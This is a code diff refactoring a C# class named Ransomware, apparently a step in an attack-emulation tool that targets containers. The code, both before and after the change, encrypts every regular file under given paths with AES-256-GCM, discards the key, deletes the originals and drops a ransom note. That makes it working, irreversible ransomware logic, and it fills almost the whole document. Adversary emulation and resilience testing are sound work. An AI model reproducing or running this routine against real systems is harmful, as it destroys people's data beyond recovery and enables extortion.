@@ -27,37 +27,54 @@ internal sealed class Ransomware
         var originals = new List<string>();
         foreach (var path in step.Paths)
         {
-            await using var source = await _runtime.CopyFromAsync(containerId, path, cancellationToken);
-            using var locked = new MemoryStream();
-            await using (var writer = new TarWriter(locked, TarEntryFormat.Pax, leaveOpen: true))
-            {
-                var parent = ContainerPath.ParentOf(path).TrimEnd('/');
-                using var reader = new TarReader(source, leaveOpen: true);
-                while (reader.GetNextEntry(copyData: true) is { } entry)
-                {
-                    if (entry.EntryType is not (TarEntryType.RegularFile or TarEntryType.V7RegularFile))
-                    {
-                        continue;
-                    }
-
-                    var plain = await ReadAllAsync(entry.DataStream, cancellationToken);
-                    await writer.WriteEntryAsync(Locked(entry, entry.Name + step.Extension, Encrypt(key, plain)), cancellationToken);
-                    originals.Add(parent + "/" + entry.Name);
-                    encrypted++;
-                    bytes += plain.Length;
-                }
-
-                var root = path.TrimEnd('/')[(parent.Length + 1)..];
-                await writer.WriteEntryAsync(Note(root + "/" + step.Note), cancellationToken);
-            }
-
-            locked.Position = 0;
-            await _runtime.CopyToAsync(containerId, ContainerPath.ParentOf(path), locked, cancellationToken);
+            // Held in memory to write back, so read under the in-memory limit.
+            using var locked = await _runtime.ReadArchiveAsync(
+                containerId, path, ArchiveLimit.InMemory, (source, ct) => LockAsync(source, path, key, step, originals, ct), cancellationToken);
+            encrypted += locked.Files;
+            bytes += locked.Bytes;
+            await _runtime.CopyToAsync(containerId, ContainerPath.ParentOf(path), locked.Tar, cancellationToken);
         }
 
         CryptographicOperations.ZeroMemory(key);
         await DeleteAsync(containerId, originals, cancellationToken);
         return Invariant($"encrypted {encrypted} file(s), {bytes / 1024.0:0.#} KiB, AES-256-GCM with a discarded key; originals deleted; note {step.Note} dropped");
+    }
+
+    /// <summary>The encrypted tar of one path, ready to copy back, with what went into it.</summary>
+    private sealed record LockedTar(MemoryStream Tar, int Files, long Bytes) : IDisposable
+    {
+        public void Dispose() => Tar.Dispose();
+    }
+
+    private static async Task<LockedTar> LockAsync(
+        Stream source, string path, byte[] key, EncryptFilesStep step, List<string> originals, CancellationToken cancellationToken)
+    {
+        var locked = new MemoryStream();
+        var (files, bytes) = (0, 0L);
+        await using (var writer = new TarWriter(locked, TarEntryFormat.Pax, leaveOpen: true))
+        {
+            var parent = ContainerPath.ParentOf(path).TrimEnd('/');
+            await using var reader = new TarReader(source, leaveOpen: true);
+            while (await reader.GetNextEntryAsync(copyData: false, cancellationToken) is { } entry)
+            {
+                if (entry.EntryType is not (TarEntryType.RegularFile or TarEntryType.V7RegularFile))
+                {
+                    continue;
+                }
+
+                var plain = await ReadAllAsync(entry.DataStream, cancellationToken);
+                await writer.WriteEntryAsync(Locked(entry, entry.Name + step.Extension, Encrypt(key, plain)), cancellationToken);
+                originals.Add(parent + "/" + entry.Name);
+                files++;
+                bytes += plain.Length;
+            }
+
+            var root = path.TrimEnd('/')[(parent.Length + 1)..];
+            await writer.WriteEntryAsync(Note(root + "/" + step.Note), cancellationToken);
+        }
+
+        locked.Position = 0;
+        return new LockedTar(locked, files, bytes);
     }
 
     private async Task DeleteAsync(string containerId, List<string> files, CancellationToken cancellationToken)
